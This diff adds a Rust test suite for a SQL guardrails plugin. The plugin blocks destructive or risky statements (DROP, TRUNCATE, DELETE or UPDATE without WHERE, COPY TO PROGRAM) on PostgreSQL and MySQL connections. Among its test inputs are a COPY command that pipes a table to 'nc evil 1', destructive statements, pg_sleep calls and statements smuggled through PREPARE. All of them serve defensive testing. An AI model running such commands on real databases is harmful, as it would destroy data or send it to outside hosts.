@@ -1,0 +1,360 @@
+//! End-to-end decisions on query texts, natively: config JSON in, verdict
+//! out, through the same path as the hook.
+
+use super::*;
+use gatehouse_sdk::parse_config;
+
+const ALL_CLASSES: &str = r#"["drop","truncate","alter","grant","revoke",
+    "delete-without-where","update-without-where","copy-program",
+    "create-or-replace","role-management"]"#;
+
+fn plugin(json: &str) -> Guardrails {
+    let config: Config = parse_config(json).unwrap();
+    config.validate().unwrap();
+    Guardrails::new(config).unwrap()
+}
+
+fn dba() -> Guardrails {
+    plugin(&format!(r#"{{"deny_statements": {ALL_CLASSES}}}"#))
+}
+
+fn strict_dba() -> Guardrails {
+    plugin(&format!(
+        r#"{{"deny_statements": {ALL_CLASSES}, "strict": true}}"#
+    ))
+}
+
+#[track_caller]
+fn allowed(plugin: &Guardrails, sql: &str) {
+    if let Err(reason) = plugin.check(SqlDialect::Postgres, sql) {
+        panic!("expected {sql:?} to be allowed, denied: {reason}");
+    }
+}
+
+#[track_caller]
+fn denied(plugin: &Guardrails, sql: &str) -> String {
+    match plugin.check(SqlDialect::Postgres, sql) {
+        Ok(()) => panic!("expected {sql:?} to be denied, allowed"),
+        Err(reason) => reason,
+    }
+}
+
+#[test]
+fn words_in_strings_are_not_statements() {
+    let p = dba();
+    allowed(&p, "select 'drop table'");
+    allowed(&p, "select 'drop table x; truncate y' as note");
+    allowed(&p, "select $$drop table x$$");
+    allowed(&p, "select 1 -- drop table x");
+    allowed(&p, "select 1 /* ; drop table x; */");
+    allowed(&p, r#"select "drop" from t"#);
+}
+
+#[test]
+fn case_comments_and_whitespace_do_not_hide_a_statement() {
+    let p = dba();
+    let reason = denied(&p, "DrOp/**/TABLE x");
+    assert_eq!(
+        reason,
+        "guardrails: DROP statements are not allowed on this connection (statement 1)"
+    );
+    denied(&p, "drop\n\ttable\n x");
+    denied(&p, "/* hello */ drop -- comment\n table x");
+    denied(&p, "  DROP TABLE \"Mixed Case\"  ");
+    denied(&p, "drop table x;");
+}
+
+#[test]
+fn multi_statement_denied_if_any_is() {
+    let p = dba();
+    let reason = denied(&p, "select 1; drop table t");
+    assert_eq!(
+        reason,
+        "guardrails: DROP statements are not allowed on this connection (statement 2)"
+    );
+    let reason = denied(&p, "select 1;; select 2; truncate t; drop table u");
+    assert!(
+        reason.contains("TRUNCATE") && reason.contains("(statement 3)"),
+        "{reason}"
+    );
+    allowed(&p, "select 1; select 2;");
+}
+
+#[test]
+fn one_unparseable_statement_does_not_hide_another() {
+    let p = dba();
+    // The first statement is gibberish; the second still counts.
+    let reason = denied(&p, "frobnicate the database; drop table t");
+    assert!(reason.ends_with("(statement 2)"), "{reason}");
+}
+
+#[test]
+fn delete_and_update_with_and_without_where() {
+    let p = dba();
+    assert_eq!(
+        denied(&p, "delete from accounts"),
+        "guardrails: DELETE without a WHERE clause is not allowed on this connection (statement 1)"
+    );
+    assert_eq!(
+        denied(&p, "UPDATE accounts SET balance = 0"),
+        "guardrails: UPDATE without a WHERE clause is not allowed on this connection (statement 1)"
+    );
+    denied(&p, "delete from accounts where 1 = 1");
+    denied(&p, "update accounts set balance = 0 where true");
+    allowed(&p, "delete from accounts where id = 42");
+    allowed(&p, "update accounts set balance = 0 where id = $1");
+    denied(
+        &p,
+        "with d as (delete from accounts returning *) select count(*) from d",
+    );
+}
+
+#[test]
+fn only_configured_classes_are_denied() {
+    let p = plugin(r#"{"deny_statements": ["delete-without-where"]}"#);
+    allowed(&p, "drop table t");
+    allowed(&p, "update t set a = 1");
+    denied(&p, "delete from t");
+}
+
+#[test]
+fn prepare_and_explain_analyze_are_looked_through() {
+    let p = dba();
+    assert_eq!(
+        denied(&p, "PREPARE wipe AS DELETE FROM accounts"),
+        "guardrails: DELETE without a WHERE clause is not allowed on this connection (statement 1, inside PREPARE)"
+    );
+    allowed(
+        &p,
+        "prepare one (int) as delete from accounts where id = $1",
+    );
+    assert_eq!(
+        denied(&p, "explain analyze update accounts set balance = 0"),
+        "guardrails: UPDATE without a WHERE clause is not allowed on this connection (statement 1, inside EXPLAIN ANALYZE)"
+    );
+    denied(&p, "explain (analyze, buffers) delete from accounts");
+    // EXPLAIN without ANALYZE does not run the statement.
+    allowed(&p, "explain update accounts set balance = 0");
+}
+
+#[test]
+fn grant_revoke_alter_truncate_copy_program() {
+    let p = dba();
+    assert!(denied(&p, "grant all on accounts to public").contains("GRANT statements"));
+    assert!(denied(&p, "revoke select on accounts from bob").contains("REVOKE statements"));
+    assert!(denied(&p, "alter table accounts drop column balance").contains("ALTER statements"));
+    assert!(denied(&p, "truncate accounts").contains("TRUNCATE statements"));
+    assert!(denied(&p, "copy accounts to program 'nc evil 1'").contains("PROGRAM"));
+    allowed(&p, "copy accounts to stdout");
+    assert!(denied(&p, "create or replace view v as select 1").contains("CREATE OR REPLACE"));
+    assert!(denied(&p, "create role x superuser").contains("roles and users"));
+}
+
+#[test]
+fn strict_denies_garbage_non_strict_allows_it() {
+    let garbage = "this is not sql at all";
+    allowed(&dba(), garbage);
+    let reason = denied(&strict_dba(), garbage);
+    assert!(
+        reason.starts_with(
+            "guardrails: the query could not be parsed as PostgreSQL SQL (statement 1)"
+        ),
+        "{reason}"
+    );
+    assert!(reason.contains("only allows SQL it can check"), "{reason}");
+
+    // Untokenisable text (an unterminated string).
+    allowed(&dba(), "select 'unterminated");
+    assert!(denied(&strict_dba(), "select 'unterminated").contains("could not be parsed"));
+
+    // Strict mode on its own, with no classes.
+    let p = plugin(r#"{"strict": true}"#);
+    allowed(&p, "drop table t");
+    denied(&p, "select from where");
+}
+
+#[test]
+fn strict_still_reports_the_class_of_a_parseable_statement_first() {
+    let reason = denied(&strict_dba(), "drop table t; not sql");
+    assert!(reason.contains("DROP statements"), "{reason}");
+    let reason = denied(&strict_dba(), "select 1; not sql");
+    assert!(
+        reason.contains("could not be parsed") && reason.contains("(statement 2)"),
+        "{reason}"
+    );
+}
+
+#[test]
+fn empty_text_is_allowed() {
+    allowed(&strict_dba(), "");
+    allowed(&strict_dba(), "  -- just a comment\n");
+    allowed(&strict_dba(), ";");
+}
+
+#[test]
+fn words_match_identifiers_not_strings_or_comments() {
+    let p = plugin(r#"{"deny_words": ["pg_sleep", "Salary"]}"#);
+    assert_eq!(
+        denied(&p, "select PG_SLEEP(10)"),
+        "guardrails: `pg_sleep` is not allowed on this connection (statement 1)"
+    );
+    denied(&p, "select pg_catalog.pg_sleep(1)");
+    denied(&p, r#"select "pg_sleep"(1)"#);
+    denied(&p, "select salary from emp");
+    assert!(denied(&p, "select 1; select salary from emp").ends_with("(statement 2)"));
+    allowed(&p, "select 'pg_sleep'");
+    allowed(&p, "select 1 -- pg_sleep");
+    allowed(&p, "select 1 /* salary */");
+    allowed(&p, "select pg_sleeper, salary_band from emp");
+    // Words apply to text that does not parse, strict or not.
+    denied(&p, "frobnicate pg_sleep");
+    // …and to text that does not tokenise, where literals count too.
+    denied(&p, "select 'pg_sleep");
+}
+
+#[test]
+fn patterns_match_raw_text_including_strings() {
+    let p = plugin(r#"{"deny_patterns": ["(?i)password", "\\bssn\\b"]}"#);
+    assert_eq!(
+        denied(&p, "select 'PASSWORD' from t"),
+        "guardrails: queries matching the pattern `(?i)password` are not allowed on this connection"
+    );
+    denied(&p, "select 1 -- ssn");
+    denied(&p, "not even sql ssn");
+    allowed(&p, "select ssns from t");
+}
+
+#[test]
+fn custom_message_prefix() {
+    let p = plugin(r#"{"deny_statements": ["drop"], "message": "Blocked by DBA policy"}"#);
+    assert_eq!(
+        denied(&p, "drop table t"),
+        "Blocked by DBA policy: DROP statements are not allowed on this connection (statement 1)"
+    );
+}
+
+#[test]
+fn mysql_dialect() {
+    let p = plugin(&format!(
+        r#"{{"deny_statements": {ALL_CLASSES}, "deny_words": ["sleep"], "strict": true}}"#
+    ));
+    let mysql = |sql: &str| p.check(SqlDialect::MySql, sql);
+    assert!(mysql("DROP TABLE `orders`").unwrap_err().contains("DROP"));
+    assert!(mysql("drop table `drop table`").is_err());
+    assert!(mysql("select `drop table` from t").is_ok());
+    assert!(mysql("select * from `order` where `delete` = 1").is_ok());
+    assert!(
+        mysql("delete from `t`")
+            .unwrap_err()
+            .contains("DELETE without")
+    );
+    assert!(
+        mysql("delete from `t` limit 10")
+            .unwrap_err()
+            .contains("DELETE without")
+    );
+    assert!(mysql("# comment\nselect 1").is_ok());
+    assert!(mysql("select 1 # drop table t").is_ok());
+    assert!(mysql("select `sleep`(5)").unwrap_err().contains("`sleep`"));
+    assert!(
+        mysql("select \"sleep\"").is_ok(),
+        "double quotes are strings in MySQL"
+    );
+    assert!(mysql("rename table a to b").unwrap_err().contains("ALTER"));
+    // MySQL's PREPARE … FROM '<sql>' runs the quoted SQL.
+    let reason = mysql("PREPARE s FROM 'DROP TABLE t'").unwrap_err();
+    assert!(
+        reason.contains("DROP") && reason.contains("inside PREPARE"),
+        "{reason}"
+    );
+    assert!(
+        mysql("prepare s from 'select sleep(5)'")
+            .unwrap_err()
+            .contains("`sleep`")
+    );
+    assert!(mysql("prepare s from 'select * from t where id = ?'").is_ok());
+}
+
+#[test]
+fn dialect_follows_connection_kind() {
+    assert_eq!(
+        Guardrails::dialect_for(ConnectionKind::Postgres),
+        SqlDialect::Postgres
+    );
+    assert_eq!(
+        Guardrails::dialect_for(ConnectionKind::Mysql),
+        SqlDialect::MySql
+    );
+    assert_eq!(
+        Guardrails::dialect_for(ConnectionKind::Tcp),
+        SqlDialect::Generic
+    );
+    assert_eq!(
+        Guardrails::dialect_for(ConnectionKind::Http),
+        SqlDialect::Generic
+    );
+}
+
+#[test]
+fn deep_nesting_fails_safely() {
+    let deep = format!("select {}1{}", "(".repeat(5_000), ")".repeat(5_000));
+    allowed(&dba(), &deep);
+    assert!(denied(&strict_dba(), &deep).contains("recursion limit"));
+    // …and does not hide a statement after it.
+    denied(&dba(), &format!("{deep}; drop table t"));
+}
+
+#[test]
+fn rules_are_built_lazily() {
+    let p = plugin(r#"{"deny_patterns": ["x"]}"#);
+    assert!(p.compiled.get().is_none(), "new must not compile");
+    allowed(&p, "select 1");
+    assert!(p.compiled.get().is_some());
+}
+
+#[test]
+fn rules_that_fail_to_build_deny() {
+    // Bypasses validation, as a config changed underneath would.
+    let config: Config = parse_config(r#"{"deny_patterns": ["("]}"#).unwrap();
+    let p = Guardrails::new(config).unwrap();
+    let reason = denied(&p, "select 1");
+    assert!(reason.contains("rules could not be built") && reason.contains("deny_patterns[0]"));
+}
+
+#[test]
+fn hook_turns_decisions_into_verdicts() {
+    use gatehouse_sdk::{Connection, Identity, QueryProtocol, SessionVerb};
+    let session = |kind| Session {
+        id: "s1".into(),
+        client_address: "127.0.0.1:5000".into(),
+        verb: SessionVerb::Connect,
+        identity: Identity {
+            user_id: "u1".into(),
+            email: "ada@example.com".into(),
+            groups: vec![],
+            role: Role::User,
+        },
+        connection: Connection {
+            name: "billing".into(),
+            kind,
+            resource_name: "billing-db".into(),
+            attributes: vec![],
+        },
+        started_at: 0,
+    };
+    let query = |text: &str| Query {
+        id: 1,
+        text: text.into(),
+        protocol: QueryProtocol::Simple,
+        parameters: vec![],
+    };
+    let mut p = dba();
+    assert!(matches!(
+        p.on_query(&session(ConnectionKind::Postgres), &query("select 1")),
+        QueryVerdict::Allow
+    ));
+    match p.on_query(&session(ConnectionKind::Mysql), &query("drop table `t`")) {
+        QueryVerdict::Deny(reason) => assert!(reason.contains("DROP"), "{reason}"),
+        _ => panic!("expected a deny"),
+    }
+}
